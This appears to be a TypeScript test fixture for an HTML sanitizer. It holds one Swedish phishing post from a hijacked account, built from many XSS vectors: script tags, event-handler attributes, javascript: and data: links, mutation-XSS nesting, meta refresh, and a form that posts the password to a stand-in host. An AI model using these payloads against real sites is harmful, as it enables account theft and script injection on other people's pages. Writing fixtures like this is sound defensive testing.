/** Post of a hijacked account. Its content may be displayed at most, and never run, loaded or followed. */
export const HOSTILE_BODY = `
<p>Hej! Ditt konto stängs i dag. <b onmouseover="window.hostile='mouseover'">Bekräfta</b> att du är vårdnadshavare.</p>
<script>window.hostile = "script"</script>
<script src="https://hostile.example/script.js"></script>
<img src="https://hostile.example/pixel.png" alt="En bild" onerror="window.hostile='remote image'">
<img src="x" onerror="window.hostile='error'">
<svg onload="window.hostile='svg'"><script>window.hostile = "script in svg"</script><a xlink:href="javascript:window.hostile='svg link'"><text y="20">Tryck</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.hostile='mutation'"></style></mglyph></table></mtext></math>
<style>body { display: none } @import url("https://hostile.example/style.css");</style>
<link rel="stylesheet" href="https://hostile.example/link.css">
<meta http-equiv="refresh" content="0; url=https://hostile.example/refresh">
<base href="https://hostile.example/">
<div style="position:fixed;inset:0;background:url(https://hostile.example/background.png)">Sessionen har gått ut.</div>
<form action="https://hostile.example/collect" method="post">
  <label>Lösenord <input name="password" type="password" autofocus onfocus="window.hostile='focus'"></label>
  <button formaction="javascript:window.hostile='button'">Bekräfta</button>
</form>
<iframe src="https://hostile.example/frame" srcdoc="<script>parent.hostile='frame'</script>"></iframe>
<object data="https://hostile.example/object.swf"></object><embed src="https://hostile.example/embed.swf">
<video src="https://hostile.example/film.mp4" autoplay onloadstart="window.hostile='video'"></video>
<details open ontoggle="window.hostile='toggle'"><summary>Mer</summary>Text</details>
<p><a href="javascript:window.hostile='link'">Bekräfta ditt konto</a> eller
<a href="java&#10;script:window.hostile='split link'">logga in här</a>,
<a href="data:text/html,<script>window.hostile='data'</script>">läs mer</a>,
<a href="mailto:hostile@hostile.example">skriv till oss</a> eller
<a href="https://hostile.example/real" target="_top" onclick="window.hostile='click'">besök sidan</a>.</p>
<p id="root" name="body">Vänliga hälsningar, supporten</p>`;
